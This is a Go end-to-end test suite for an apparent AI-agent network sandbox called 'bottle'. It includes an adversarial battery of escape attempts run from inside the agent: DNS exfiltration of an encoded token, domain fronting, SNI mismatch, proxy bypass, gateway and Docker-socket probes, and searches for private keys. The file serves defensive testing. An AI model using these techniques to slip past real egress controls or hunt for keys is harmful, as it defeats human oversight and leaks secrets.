package e2e

import (
	"fmt"
	"io"
	"net/http"
	"os"
	"os/exec"
	"path/filepath"
	"strconv"
	"strings"
	"sync"
	"testing"
	"time"

	"bottle.dev/bottle/ca"
	"bottle.dev/bottle/launcher"
)

// world is the simulated internet and a bottle CLI to launch bottles into it.
type world struct {
	t        *testing.T
	backend  string // "docker" or "macos-container" (Apple's CLI, played by e2e/containerdouble)
	bin      string // dir with bottle and bottle-sidecar
	state    string
	net      string // the simulated internet's network (the bottles' egress)
	simA     string // fakenet A: DNS for sim.test, HTTPS, git
	simB     string // fakenet B: the "blocked host" nothing may reach
	rootPEM  string
	policyAt string
	// extraEnv is set for the bottle CLI on top of the rest (later wins).
	extraEnv []string
}

func (w *world) env() []string {
	env := append(os.Environ(), "XDG_STATE_HOME="+w.state, "BOTTLE_AGENT_BASE="+baseImage, "BOTTLE_BACKEND="+w.backend,
		"PATH="+w.bin+string(os.PathListSeparator)+os.Getenv("PATH")) // the container double first
	return append(env, w.extraEnv...)
}

// hostGitIdentity is the identity the bottle CLI finds in the host's git
// config, where the tests launch ("" when it finds none).
func (w *world) hostGitIdentity() string {
	get := func(key string) string {
		cmd := exec.Command("git", "config", "--get", key)
		cmd.Env, cmd.Dir = w.env(), filepath.Dir(w.policyAt)
		out, _ := cmd.Output()
		return strings.TrimSpace(string(out))
	}
	if name, email := get("user.name"), get("user.email"); name != "" && email != "" {
		return name + " <" + email + ">"
	}
	return ""
}

// bottle runs the bottle CLI and returns stdout, stderr and the exit status.
func (w *world) bottle(args ...string) (string, string, int) {
	w.t.Helper()
	return w.bottleLong(10*time.Minute, args...)
}

// sh runs a shell script in bottle name's agent, as its user.
func (w *world) sh(name, script string) (string, int) {
	w.t.Helper()
	out, errs, code := w.bottle("exec", name, "--", "sh", "-c", script)
	return out + errs, code
}

func (w *world) conns(ip string) int {
	w.t.Helper()
	// A new connection each time (so each query counts itself once).
	c := &http.Client{Transport: &http.Transport{DisableKeepAlives: true}}
	resp, err := c.Get("http://" + ip + "/__conns")
	if err != nil {
		w.t.Fatalf("fakenet %s: %v", ip, err)
	}
	defer resp.Body.Close()
	b, _ := io.ReadAll(resp.Body)
	n, _ := strconv.Atoi(strings.TrimSpace(string(b)))
	return n
}

const e2ePolicy = `version: 1
allow:
  - host: ok.sim.test
  - host: sse.sim.test
  - host: git.sim.test
    methods: [GET, POST]
    paths: ["/git/acme/widget.git/**"]
  - host: pass.sim.test
    tls: passthrough
  - host: loop.sim.test
  - host: meta.sim.test
  - host: priv.sim.test
  # ssh and a protocol where the server speaks first: through CONNECT
  # tunnels opened by bottle-probe connect and forward.
  - host: ssh.sim.test
    ports: [22]
    tls: passthrough
  - host: db.sim.test
    ports: [3306]
    tls: passthrough
  # The simulated internet lives on a private network: only its DNS, web,
  # ssh and greeter servers may be reached, and only on these ports.
  - cidr: {{SIMA}}/32
    ports: [80, 443, 22, 3306]
deny:
  - host: git.sim.test
    methods: [DELETE]
`

// newWorld starts the simulated internet (fakenet A with fakenetArgs
// after its own) and builds the bottle CLI.
func newWorld(t *testing.T, backend string, fakenetArgs ...string) *world {
	requireDocker(t)
	images(t)
	w := &world{t: t, backend: backend, bin: t.TempDir(), state: t.TempDir()}
	buildStatic(t, "./cmd/bottle", w.bin, "bottle")
	buildStatic(t, "./cmd/bottle-sidecar", w.bin, "bottle-sidecar")
	if backend == "macos-container" {
		buildStatic(t, "./e2e/containerdouble", w.bin, "container")
	}

	root, _ := ca.New("e2e-sim-root", 0)
	rootDir := filepath.Join(t.TempDir(), "root")
	root.Save(rootDir)
	os.Chmod(rootDir, 0o755)
	w.rootPEM = filepath.Join(rootDir, "ca.crt")

	w.net = uniq("bottle-e2e-sim")
	docker(t, "network", "create", "--label", "dev.bottle.e2e=true", w.net)
	t.Cleanup(func() { dockerErr("network", "rm", w.net) })
	b := uniq("bottle-e2e-simb")
	docker(t, "run", "-d", "--name", b, "--network", w.net, "-v", rootDir+":/root-ca:ro", fakenetGitTag)
	t.Cleanup(func() { dockerErr("rm", "-f", b) })
	w.simB = docker(t, "inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", b)
	a := uniq("bottle-e2e-sima")
	docker(t, append([]string{"run", "-d", "--name", a, "--network", w.net, "-v", rootDir + ":/root-ca:ro", fakenetGitTag, "--git-root", "/git", "--other-ip", w.simB, "--ssh-listen", ":22"}, fakenetArgs...)...)
	t.Cleanup(func() { dockerErr("rm", "-f", a) })
	w.simA = docker(t, "inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", a)

	w.policyAt = filepath.Join(t.TempDir(), "allowlist.yaml")
	os.WriteFile(w.policyAt, []byte(strings.ReplaceAll(e2ePolicy, "{{SIMA}}", w.simA)), 0o644)
	os.WriteFile(filepath.Join(filepath.Dir(w.policyAt), "NOTES.md"), []byte("the workspace\n"), 0o644)
	return w
}

func (w *world) launch(name string, extra ...string) string {
	w.t.Helper()
	start := time.Now()
	errs, code := w.tryLaunch(name, extra...)
	if code != 0 {
		w.t.Fatalf("launch %s: exit %d\n%s", name, code, errs)
	}
	w.t.Logf("launched %s in %.1fs", name, time.Since(start).Seconds())
	return errs
}

// tryLaunch launches into the simulated internet and returns stderr and the
// exit status; the bottle is stopped when the test ends.
func (w *world) tryLaunch(name string, extra ...string) (string, int) {
	w.t.Helper()
	args := append([]string{"launch", name, "--workspace", ".", "--egress-network", w.net,
		"--upstream-dns", w.simA + ":53", "--upstream-ca", w.rootPEM}, extra...)
	_, errs, code := w.bottle(args...)
	w.t.Cleanup(func() { w.bottle("stop", name) })
	return errs, code
}

func (w *world) sidecarIP(name string) string {
	return docker(w.t, "inspect", "--format", "{{(index .NetworkSettings.Networks \"bottle-"+name+"-internal\").IPAddress}}", "bottle-"+name+"-sidecar")
}

// TestBottle launches a real bottle into the simulated internet and checks,
// from inside its agent with real tools, what gets through and what does not.
func TestBottle(t *testing.T) { bottleSuite(t, "docker") }

// TestBottleMacOSContainer runs the same suite through the macos-container
// backend, with a double of Apple's container CLI on PATH that drives Docker.
func TestBottleMacOSContainer(t *testing.T) { bottleSuite(t, "macos-container") }

func bottleSuite(t *testing.T, backend string) {
	w := newWorld(t, backend)
	summary := w.launch("e2e1")
	for _, want := range []string{"self-test passed", "bottle \"e2e1\" is running (" + backend, "bottle shell e2e1"} {
		if !strings.Contains(summary, want) {
			t.Errorf("launch output lacks %q:\n%s", want, summary)
		}
	}
	// Warm launch: images cached.
	start := time.Now()
	w.launch("e2e-warm")
	t.Logf("warm launch: %.1fs", time.Since(start).Seconds())
	w.bottle("stop", "e2e-warm")

	sidecar := w.sidecarIP("e2e1")
	audit := func() string {
		b, _ := os.ReadFile(filepath.Join(w.state, "bottle", "e2e1", "logs", "egress.jsonl"))
		return string(b)
	}

	t.Run("selftest_says_what_it_proved_and_marks_its_audit", func(t *testing.T) {
		// Each line names the fact and the address, under the self-test's step.
		_, after, _ := strings.Cut(summary, "self-test passed")
		egressIP := docker(t, "inspect", "--format", "{{(index .NetworkSettings.Networks \""+w.net+"\").IPAddress}}", "bottle-e2e1-sidecar")
		for _, want := range []string{
			"\n      answers: the proxy at " + sidecar + ":3128 (GET /healthz)\n",
			"\n      blocked: http://bottle-self-test-",
			"(403 from the proxy at " + sidecar + ":3128)\n",
			"(REFUSED from the sidecar's DNS at " + sidecar + ":53)\n",
			"\n      unreachable: the sidecar's egress address " + egressIP + ":3128\n",
			"\n      unreachable: the internal network's gateway ",
		} {
			if !strings.Contains(after, want) {
				t.Errorf("self-test lines lack %q:\n%s", want, summary)
			}
		}
		// The sidecar marked the self-test's refusals, and only those.
		var name string
		marked := 0
		for _, l := range strings.Split(audit(), "\n") {
			if !strings.Contains(l, `"selftest":true`) {
				continue
			}
			marked++
			i := strings.Index(l, "bottle-self-test-")
			if i < 0 {
				t.Fatalf("a marked line not about the self-test's name: %s", l)
			}
			name = l[i:i+len("bottle-self-test-")+12] + ".invalid"
		}
		if marked < 2 {
			t.Fatalf("%d marked lines (want the DNS query and the request):\n%s", marked, audit())
		}
		if _, err := os.Stat(filepath.Join(w.state, "bottle", "e2e1", "config", "selftest")); err == nil {
			t.Error("the self-test's window is still open")
		}
		// The agent asking for the very name, after the self-test: its
		// lines are its own, not marked, and shown.
		w.sh("e2e1", "getent hosts "+name+"; curl -sS -m 5 -o /dev/null http://"+name+"/agent")
		deadline := time.Now().Add(5 * time.Second)
		for !strings.Contains(audit(), name+`","port":80,"path":"/agent"`) && time.Now().Before(deadline) {
			time.Sleep(100 * time.Millisecond)
		}
		for _, l := range strings.Split(audit(), "\n") {
			if strings.Contains(l, "/agent") && strings.Contains(l, `"selftest"`) {
				t.Errorf("the agent's request was marked: %s", l)
			}
		}
		if n := strings.Count(audit(), `"selftest":true`); n != marked {
			t.Errorf("%d marked lines after the agent's requests; %d before", n, marked)
		}
		out, _, _ := w.bottle("logs", "e2e1", "--egress")
		if strings.Contains(out, "(self-test)") || !strings.Contains(out, name+":80/agent") {
			t.Errorf("logs --egress:\n%s", out)
		}
		out, _, _ = w.bottle("logs", "e2e1", "--egress", "--selftest")
		if strings.Count(out, "(self-test)") != marked {
			t.Errorf("logs --egress --selftest shows %d self-test lines; want %d:\n%s", strings.Count(out, "(self-test)"), marked, out)
		}
	})
	t.Run("image_without_agent_user", func(t *testing.T) {
		errs := w.launch("e2e-root", "--image", baseImage)
		defer w.bottle("stop", "e2e-root")
		if !strings.Contains(errs, "as user root\n") || strings.Count(errs, `the image has no user "agent", so the agent's commands run as root`) != 1 {
			t.Errorf("launch:\n%s", errs)
		}
		if out, code := w.sh("e2e-root", "id -u"); code != 0 || strings.TrimSpace(out) != "0" {
			t.Errorf("id -u: %d %q", code, out)
		}
	})
	t.Run("curl_allowed_through_mitm", func(t *testing.T) {
		out, code := w.sh("e2e1", "curl -sS -v https://ok.sim.test/hello 2>&1")
		if code != 0 || !strings.Contains(out, "hello from ok.sim.test GET /hello") || !strings.Contains(out, "issuer: O=bottle; CN=bottle CA for e2e1") {
			t.Errorf("exit %d:\n%s", code, out)
		}
	})
	t.Run("workspace_and_user", func(t *testing.T) {
		out, code := w.sh("e2e1", "id -un; pwd; cat NOTES.md")
		if code != 0 || out != "agent\n/workspace\nthe workspace\n" {
			t.Errorf("exit %d: %q", code, out)
		}
	})
	t.Run("agent_commits_with_its_own_identity", func(t *testing.T) {
		// The image sets no git identity, so the launch gives the agent
		// the host's, or one that names the bottle: git commit just works.
		want := w.hostGitIdentity()
		if want == "" {
			want = "bottle agent (e2e1) <agent@e2e1.bottle.invalid>"
		}
		out, code := w.sh("e2e1", "d=$(mktemp -d) && cd $d && git init -q && echo x > f && git add f && git commit -qm x && git log -1 --format='%an <%ae>'")
		if code != 0 || out != want+"\n" {
			t.Errorf("exit %d: %q; want %q", code, out, want)
		}
	})
	t.Run("exit_status_propagates", func(t *testing.T) {
		if _, code := w.sh("e2e1", "exit 7"); code != 7 {
			t.Errorf("exit %d; want 7", code)
		}
	})
	t.Run("git_clone_and_push", func(t *testing.T) {
		out, code := w.sh("e2e1", `set -e; cd /tmp; rm -rf widget
git clone -q https://git.sim.test/git/acme/widget.git; cd widget; cat README
echo more >> README; git -c user.email=a@b -c user.name=agent commit -qam second
git push -q origin HEAD:main && echo pushed`)
		if code != 0 || !strings.Contains(out, "hello") || !strings.Contains(out, "pushed") {
			t.Errorf("exit %d:\n%s", code, out)
		}
		out, code = w.sh("e2e1", "git clone -q https://git.sim.test/git/acme/other.git /tmp/other 2>&1")
		if code == 0 || !strings.Contains(out, "403") {
			t.Errorf("clone outside the rule: exit %d\n%s", code, out)
		}
	})
	t.Run("sse_arrives_incrementally", func(t *testing.T) {
		out, code := w.sh("e2e1", `curl -sN https://sse.sim.test/sse | while read -r l; do if [ -n "$l" ]; then echo "$(date +%s.%N) $l"; fi; done`)
		lines := strings.Split(strings.TrimSpace(out), "\n")
		if code != 0 || len(lines) != 3 {
			t.Fatalf("exit %d:\n%s", code, out)
		}
		first, _ := strconv.ParseFloat(strings.Fields(lines[0])[0], 64)
		last, _ := strconv.ParseFloat(strings.Fields(lines[2])[0], 64)
		if last-first < 0.4 { // the origin waits 300 ms between events
			t.Errorf("events arrived together (%.2fs apart): the stream was buffered", last-first)
		}
	})

	t.Run("git_over_ssh_through_proxycommand", func(t *testing.T) {
		// The README's recipe: ssh reaches HOST:22 through the proxy with
		// bottle-probe connect, judged by a passthrough rule.
		out, code := w.sh("e2e1", `set -e; cd /tmp; rm -rf ssh-widget
export GIT_SSH_COMMAND="ssh -o ProxyCommand='bottle-probe connect %h:%p' -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR"
git clone -q ssh://git@ssh.sim.test/git/acme/widget.git ssh-widget; cat ssh-widget/README`)
		if code != 0 || !strings.Contains(out, "hello") {
			t.Errorf("exit %d:\n%s", code, out)
		}
		// A host no rule names: ssh fails, and the helper said why and how.
		out, code = w.sh("e2e1", `ssh -o ProxyCommand='bottle-probe connect %h:%p' -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR git@blocked.sim.test true 2>&1`)
		if code == 0 || !strings.Contains(out, "403") || !strings.Contains(out, "bottle allow add blocked.sim.test") {
			t.Errorf("refused ssh: exit %d:\n%s", code, out)
		}
	})
	t.Run("server_first_protocol_through_forward", func(t *testing.T) {
		// A client that takes a host and a port but no proxy, of a protocol
		// where the server speaks first (MySQL, SMTP): bottle-probe forward.
		out, code := w.sh("e2e1", `bottle-probe forward 13306 db.sim.test:3306 >/tmp/fwd.log 2>&1 & fwd=$!
for i in $(seq 50); do grep -q forwarding /tmp/fwd.log && break; sleep 0.1; done
python3 -c '
import socket
s = socket.create_connection(("127.0.0.1", 13306), timeout=10)
f = s.makefile("rwb")
print(f.readline().decode().strip())
f.write(b"HELO agent\r\n"); f.flush()
print(f.readline().decode().strip())
'; kill $fwd`)
		if code != 0 || out != "220 fakenet ready\n250 got HELO agent\n" {
			// What the forwarder said, and what the proxy logged of it.
			log, _ := w.sh("e2e1", "cat /tmp/fwd.log")
			t.Errorf("exit %d: %q\nforwarder: %s\naudit: %s", code, out, log, grepLines(audit(), `"port":3306`))
		}
	})

	// The adversarial battery, each case from inside the agent.
	battery := []struct {
		id, script string
		check      func(out string, code int) string // "" when it holds
		auditWant  string
	}{
		// Refused, and answered inside TLS so that the agent can read why
		// (TestReadableDenials has the page): the CONNECT line is the denial.
		{"A1_connect_blocked_host", "curl -sS -o /dev/null -w '%{http_code}' https://blocked.sim.test/ 2>&1",
			func(o string, c int) string { return expect(c == 0 && strings.TrimSpace(o) == "403", o) }, `"host":"blocked.sim.test","port":443,"decision":"deny"`},
		{"A2_plain_http_blocked_host", "curl -sS -i http://blocked.sim.test/x",
			func(o string, c int) string {
				return expect(strings.Contains(o, "403") && strings.Contains(o, "bottle allow add blocked.sim.test"), o)
			}, `"method":"GET","scheme":"http","host":"blocked.sim.test"`},
		{"A3_direct_tcp_blocked_host", "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy bottle-probe probe --timeout 3s tcp " + w.simB + ":443",
			func(o string, c int) string { return expect(c == 4, o) }, ""},
		{"A4_direct_tcp_allowed_host", "env -u HTTP_PROXY -u HTTPS_PROXY -u http_proxy -u https_proxy curl -sS -m 3 --noproxy '*' https://" + w.simA + "/ 2>&1; bottle-probe probe --timeout 3s tcp " + w.simA + ":443",
			func(o string, c int) string { return expect(c == 4, o) }, ""},
		{"A5_ip_literals", fmt.Sprintf(`for t in %s %s 0x%s [::ffff:%s]; do curl -s -m 5 -o /dev/null -w '%%{http_connect}\n' https://$t/; done`, w.simB, ipDecimal(w.simB), ipHex(w.simB), w.simB),
			func(o string, c int) string { return expect(strings.Count(o, "403") == 4, o) }, `"kind":"connect"`},
		{"A6_allowed_host_other_port", "curl -sS -m 5 https://ok.sim.test:22/ 2>&1; curl -sS -m 5 https://ok.sim.test:25/ 2>&1",
			func(o string, c int) string { return expect(strings.Count(o, "403") == 2, o) }, `"host":"ok.sim.test","port":22`},
		{"A7_dns_blocked_name", "dig +short +tries=1 +time=3 blocked.sim.test; dig +tries=1 +time=3 blocked.sim.test | grep -o 'status: [A-Z]*'",
			func(o string, c int) string { return expect(strings.Contains(o, "status: REFUSED"), o) }, `"kind":"dns","client"`},
		{"A8_dns_direct_to_upstream", "dig +tries=1 +time=2 @" + w.simA + " ok.sim.test 2>&1; bottle-probe probe --timeout 2s dns ok.sim.test @" + w.simA + "; echo code=$?",
			func(o string, c int) string {
				return expect(strings.Contains(o, "no servers could be reached") && strings.Contains(o, "code=4"), o)
			}, ""},
		{"A9_dns_exfiltration", "for n in c2VjcmV0LXRva2Vu.x7f3k2.data.sim.test exfil-4f2a.ok.sim.test; do dig +tries=1 +time=3 TXT $n | grep -o 'status: [A-Z]*'; dig +tries=1 +time=3 ANY $n | grep -o 'status: [A-Z]*'; done",
			func(o string, c int) string { return expect(strings.Count(o, "status: REFUSED") == 4, o) }, ""},
		{"A10_rebinding_to_special_addresses", "for h in loop meta priv; do curl -s -m 5 -o /dev/null -w '%{http_connect}\n' https://$h.sim.test/; done",
			func(o string, c int) string { return expect(strings.Count(o, "403") == 3, o) }, `only a cidr rule can allow that`},
		// Through the proxy (the sidecar's address is in NO_PROXY, for the
		// MCP server): it must refuse to dial itself.
		{"A11_sidecar_own_addresses", fmt.Sprintf("env -u NO_PROXY -u no_proxy sh -c \"curl -sS -m 5 https://%s:3128/ 2>&1; curl -sS -m 5 -o /dev/null -w '%%{http_code}\\n' http://%s:53/ 2>&1\"", sidecar, sidecar),
			func(o string, c int) string { return expect(strings.Count(o, "403") == 2, o) }, ""},
		{"A12_gateways_and_host", "", nil, ""}, // below: needs the host's addresses
		{"A13_domain_fronting", "curl -sS -m 5 -H 'Host: blocked.sim.test' -w '\n%{http_code}\n' https://ok.sim.test/",
			func(o string, c int) string {
				return expect(strings.Contains(o, "403") && strings.Contains(o, "inside a tunnel"), o)
			}, ""},
		{"A14_sni_mismatch_on_passthrough", "curl -sS -m 5 --connect-to ok.sim.test:443:pass.sim.test:443 https://ok.sim.test/ 2>&1; echo rc=$?",
			func(o string, c int) string {
				return expect(!strings.Contains(o, "hello from") && !strings.Contains(o, "rc=0"), o)
			}, `TLS SNI \"ok.sim.test\" differs from the CONNECT host pass.sim.test`},
		{"A15_method_and_path", "curl -sS -m 5 -X DELETE -o /dev/null -w '%{http_code} ' https://git.sim.test/git/acme/widget.git/x; curl -sS -m 5 -o /dev/null -w '%{http_code}' https://git.sim.test/git/other/",
			func(o string, c int) string { return expect(strings.TrimSpace(o) == "403 403", o) }, `"rule":"deny[0]"`},
		{"A16_no_net_admin_no_raw", `ip link set eth0 down 2>&1; ip route add 10.9.9.0/24 dev eth0 2>&1; python3 -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)' 2>&1 | tail -1`,
			func(o string, c int) string {
				return expect(strings.Count(o, "Operation not permitted") >= 3, o)
			}, ""},
		{"A17_udp_out", "env -u HTTP_PROXY python3 -c \"import socket; s=socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(2); s.sendto(b'x', ('" + w.simA + "', 53)); print(s.recv(100))\" 2>&1 | tail -1",
			func(o string, c int) string {
				return expect(strings.Contains(o, "timed out") || strings.Contains(o, "unreachable") || strings.Contains(o, "Errno"), o)
			}, ""},
		{"A18_ipv6_out", "bottle-probe probe --timeout 3s tcp '[2001:db8::1]:443'; echo code=$?",
			func(o string, c int) string { return expect(strings.Contains(o, "code=4"), o) }, ""},
		{"A19_no_ca_key", "ls /etc/bottle 2>&1; find / -xdev -name 'ca.key' 2>/dev/null | head; grep -rlI 'PRIVATE KEY' /etc /usr/local /workspace /tmp /root /home 2>/dev/null | head; echo done",
			func(o string, c int) string {
				return expect(strings.TrimSpace(o) == "ls: cannot access '/etc/bottle': No such file or directory\ndone", o)
			}, ""},
	}
	for _, tc := range battery {
		if tc.check == nil {
			continue
		}
		t.Run(tc.id, func(t *testing.T) {
			before := w.conns(w.simB)
			out, code := w.sh("e2e1", tc.script)
			if msg := tc.check(out, code); msg != "" {
				t.Errorf("exit %d: %s", code, msg)
			}
			if after := w.conns(w.simB); after-before-1 != 0 {
				t.Errorf("the blocked host saw %d connections", after-before-1)
			}
			if tc.auditWant != "" {
				deadline := time.Now().Add(3 * time.Second)
				for !strings.Contains(audit(), tc.auditWant) && time.Now().Before(deadline) {
					time.Sleep(100 * time.Millisecond)
				}
				if !strings.Contains(audit(), tc.auditWant) {
					t.Errorf("no audit line with %s", tc.auditWant)
				}
			}
		})
	}
	t.Run("A12_gateways_and_host", func(t *testing.T) {
		gw := docker(t, "network", "inspect", "--format", "{{(index .IPAM.Config 0).Gateway}}", "bottle-e2e1-internal")
		simGW := docker(t, "network", "inspect", "--format", "{{(index .IPAM.Config 0).Gateway}}", w.net)
		targets := []string{gw, simGW, "172.17.0.1"}
		script := "for h in " + strings.Join(targets, " ") + "; do for p in 22 53 80 443 2375; do (bottle-probe probe --timeout 2s tcp $h:$p >/dev/null; echo \"$h:$p $?\") & done; done; wait"
		out, _ := w.sh("e2e1", script)
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			if !strings.HasSuffix(l, " 4") {
				t.Errorf("reachable (or refused, so reached): %s", l)
			}
		}
	})
	t.Run("dns_via_embedded_resolver_goes_nowhere", func(t *testing.T) {
		before := fakenetQueries(t, w.simA)
		w.sh("e2e1", "dig +tries=1 +time=2 @127.0.0.11 embedded-leak.sim.test >/dev/null 2>&1")
		if after := fakenetQueries(t, w.simA); strings.Contains(after, "embedded-leak") {
			t.Errorf("a query to 127.0.0.11 reached the upstream resolver (before %s)", before)
		}
		// Docker's embedded resolver hands the agent's queries to its --dns
		// server, the sidecar, which judged this one.
		deadline := time.Now().Add(3 * time.Second)
		for !strings.Contains(audit(), `"name":"embedded-leak.sim.test"`) && time.Now().Before(deadline) {
			time.Sleep(100 * time.Millisecond)
		}
		if !strings.Contains(audit(), `"name":"embedded-leak.sim.test"`) {
			t.Log("the embedded resolver did not pass the query to the sidecar (it answered or dropped it itself)")
		}
	})
	t.Run("allowed_name_resolves_through_sidecar", func(t *testing.T) {
		out, code := w.sh("e2e1", "getent hosts ok.sim.test")
		if code != 0 || !strings.Contains(out, w.simA) {
			t.Errorf("exit %d: %q", code, out)
		}
		if q := fakenetQueries(t, w.simA); strings.Contains(q, "blocked.sim.test") || strings.Contains(q, "c2VjcmV0") || strings.Contains(q, "exfil-4f2a") {
			t.Errorf("refused names reached the upstream resolver: %s", q)
		}
	})
	t.Run("allow_add_on_running_bottle", func(t *testing.T) {
		if out, _ := w.sh("e2e1", "curl -sS -m 5 -o /dev/null -w '%{http_code}' https://new.sim.test/"); !strings.Contains(out, "403") {
			t.Fatalf("before: %s", out)
		}
		out, errs, code := w.bottle("allow", "add", "new.sim.test", "--bottle", "e2e1")
		if code != 0 || !strings.Contains(errs, "applied") {
			t.Fatalf("allow add: %d %s %s", code, out, errs)
		}
		if out, _ := w.sh("e2e1", "curl -sS -m 5 https://new.sim.test/x"); !strings.Contains(out, "hello from new.sim.test") {
			t.Errorf("after: %s", out)
		}
		// The file e2e1 was launched from has the rule too.
		if data, _ := os.ReadFile(w.policyAt); !strings.Contains(string(data), "new.sim.test") || !strings.Contains(out, "to allowlist.yaml, which e2e1 was launched from") {
			t.Errorf("the launch file was not edited: %s\n%s", out, data)
		}
		// --no-resolve: the host's resolver is not the simulated internet's.
		if out, _, code := w.bottle("allow", "check", "--no-resolve", "--bottle", "e2e1", "https://new.sim.test/"); code != 0 || !strings.HasPrefix(out, "allow") {
			t.Errorf("allow check --bottle: %d %s", code, out)
		}
		if out, _, code := w.bottle("ca", "export", "--bottle", "e2e1", "--fingerprint"); code != 0 || !strings.HasPrefix(out, "sha256 ") {
			t.Errorf("ca export --bottle: %d %s", code, out)
		}
	})
	// A bottle launched from a bottle.yaml with inline rules: allow add
	// --bottle reaches the running bottle and the rules in bottle.yaml, in
	// place, so that a relaunch from the file keeps the rule.
	t.Run("allow_add_reaches_bottle_yaml", func(t *testing.T) {
		proj := filepath.Join(t.TempDir(), "bottle.yaml")
		head := "# the e2e project\nversion: 1\nenv:\n  E2E: \"1\"   # kept\n"
		rules := strings.TrimPrefix(strings.ReplaceAll(e2ePolicy, "{{SIMA}}", w.simA), "version: 1\n")
		if err := os.WriteFile(proj, []byte(head+rules), 0o644); err != nil {
			t.Fatal(err)
		}
		w.launch("e2e-proj", "--project", proj, "--yes")
		if out, _ := w.sh("e2e-proj", "curl -sS -m 5 -o /dev/null -w '%{http_code}' https://proj.sim.test/"); !strings.Contains(out, "403") {
			t.Fatalf("before: %s", out)
		}
		out, errs, code := w.bottle("allow", "add", "https://proj.sim.test/v1", "--bottle", "e2e-proj")
		if code != 0 || !strings.Contains(errs, "the sidecar of e2e-proj applied it") || !strings.Contains(out, "to the live allowlist of e2e-proj") ||
			!strings.Contains(out, proj+", which e2e-proj was launched from") {
			t.Fatalf("allow add: %d\n%s%s", code, out, errs)
		}
		if out, _ := w.sh("e2e-proj", "curl -sS -m 5 https://proj.sim.test/v1/x; curl -sS -m 5 -o /dev/null -w ' %{http_code}' https://proj.sim.test/v2"); !strings.Contains(out, "hello from proj.sim.test GET /v1/x") || !strings.HasSuffix(out, " 403") {
			t.Errorf("after, live: %s", out)
		}
		data, _ := os.ReadFile(proj)
		if !strings.HasPrefix(string(data), head) || !strings.Contains(string(data), "  - host: proj.sim.test\n") {
			t.Errorf("bottle.yaml:\n%s", data)
		}
		if _, errs, code := w.bottle("stop", "e2e-proj"); code != 0 {
			t.Fatalf("stop: %s", errs)
		}
		w.launch("e2e-proj", "--project", proj, "--yes")
		if out, _ := w.sh("e2e-proj", "curl -sS -m 5 https://proj.sim.test/v1/y"); !strings.Contains(out, "hello from proj.sim.test GET /v1/y") {
			t.Errorf("after the relaunch: %s", out)
		}
	})
}

// TestIsolationAndCleanup: three bottles at once stay apart (A20); listing,
// stopping and cleanup touch only bottle's own labelled resources.
func TestIsolationAndCleanup(t *testing.T) {
	w := newWorld(t, "docker")
	names := []string{"iso-a", "iso-b", "iso-c"}
	var wg sync.WaitGroup
	for _, n := range names {
		wg.Add(1)
		go func() { defer wg.Done(); w.launch(n) }()
	}
	wg.Wait()
	out, _, _ := w.bottle("list")
	for _, n := range names {
		if !strings.Contains(out, n) {
			t.Errorf("bottle list lacks %s:\n%s", n, out)
		}
	}
	t.Run("A20_other_bottles_unreachable", func(t *testing.T) {
		aSidecar := w.sidecarIP("iso-a")
		aAgent := docker(t, "inspect", "--format", "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}", "bottle-iso-a-agent")
		out, _ := w.sh("iso-b", fmt.Sprintf("for t in %s:3128 %s:53 %s:22 %s:80; do bottle-probe probe --timeout 2s tcp $t >/dev/null; echo \"$t $?\"; done; dig +tries=1 +time=2 @%s ok.sim.test | grep -c 'status' ", aSidecar, aSidecar, aAgent, aAgent, aSidecar))
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			if strings.Contains(l, ":") && !strings.HasSuffix(l, " 4") {
				t.Errorf("bottle iso-b reached bottle iso-a: %s", l)
			}
		}
	})

	// Decoys without our labels must survive cleanup.
	decoyNet := uniq("decoy-net")
	docker(t, "network", "create", decoyNet)
	t.Cleanup(func() { dockerErr("network", "rm", decoyNet) })
	decoy := uniq("decoy")
	docker(t, "create", "--name", decoy, "--network", decoyNet, baseImage, "true")
	t.Cleanup(func() { dockerErr("rm", "-f", decoy) })

	// A half-made bottle: a labelled network with nothing in it. And
	// another user's (another state directory's) half-made bottle, which is
	// not ours to clean up.
	owner := "dev.bottle.owner=" + launcher.Owner(filepath.Join(w.state, "bottle"))
	half := uniq("bottle-half-internal")
	docker(t, "network", "create", "--label", "dev.bottle.managed=true", "--label", owner, "--label", "dev.bottle.name=half", half)
	t.Cleanup(func() { dockerErr("network", "rm", half) })
	theirs := uniq("bottle-theirs-internal")
	docker(t, "network", "create", "--label", "dev.bottle.managed=true", "--label", "dev.bottle.owner=0123456789abcdef", "--label", "dev.bottle.name=theirs", theirs)
	t.Cleanup(func() { dockerErr("network", "rm", theirs) })
	out, _, code := w.bottle("cleanup", "--dry-run")
	if code != 0 || !strings.Contains(out, "would remove: half") || strings.Contains(out, "iso-a") {
		t.Errorf("cleanup --dry-run: %d\n%s", code, out)
	}
	if out, _, code = w.bottle("cleanup"); code != 0 || !strings.Contains(out, "removing: half") {
		t.Errorf("cleanup: %d\n%s", code, out)
	}
	for _, n := range names {
		if _, errs, code := w.bottle("stop", n); code != 0 {
			t.Errorf("stop %s: %s", n, errs)
		}
		if _, _, code := w.bottle("stop", n); code != 0 {
			t.Errorf("second stop of %s failed", n)
		}
		if _, err := os.Stat(filepath.Join(w.state, "bottle", n, "logs", "sidecar.log")); err != nil {
			t.Errorf("%s: sidecar log not saved: %v", n, err)
		}
	}
	if left := docker(t, "ps", "-aq", "--filter", "label="+owner); left != "" {
		t.Errorf("labelled containers left: %s", left)
	}
	if left := docker(t, "network", "ls", "-q", "--filter", "label="+owner); left != "" {
		t.Errorf("labelled networks left: %s", left)
	}
	if _, err := dockerErr("network", "inspect", theirs); err != nil {
		t.Errorf("another user's network was cleaned up: %v", err)
	}
	if _, err := dockerErr("inspect", decoy); err != nil {
		t.Errorf("the decoy container is gone: %v", err)
	}
	if _, err := dockerErr("network", "inspect", decoyNet); err != nil {
		t.Errorf("the decoy network is gone: %v", err)
	}
}

func expect(ok bool, out string) string {
	if ok {
		return ""
	}
	return "unexpected output:\n" + out
}

func ipDecimal(ip string) string {
	var n uint32
	for _, p := range strings.Split(ip, ".") {
